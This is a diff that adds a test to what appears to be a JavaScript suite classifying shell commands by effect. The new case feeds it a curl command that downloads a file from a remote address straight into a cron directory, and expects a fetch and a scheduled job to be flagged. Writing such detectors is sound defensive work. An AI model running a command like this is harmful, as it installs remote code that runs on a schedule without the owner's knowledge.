@@ -176,6 +176,13 @@ describe('schedules', () => {
     );
     expect(kinds(command(['cp', '/app/job', '/etc/cron.d/']))).toContain('schedule');
   });
+  test('downloaded into place', () => {
+    const found = effects(command(['curl', '-o', '/mnt/etc/cron.d/x', 'http://192.0.2.44/x']));
+    expect(found).toMatchObject([
+      { kind: 'fetch' },
+      { kind: 'schedule', outside: '/mnt/etc', job: [{ hole: 'content' }] },
+    ]);
+  });
   test('listing is nothing', () => {
     expect(effects(command(['crontab', '-l']))).toEqual([]);
   });
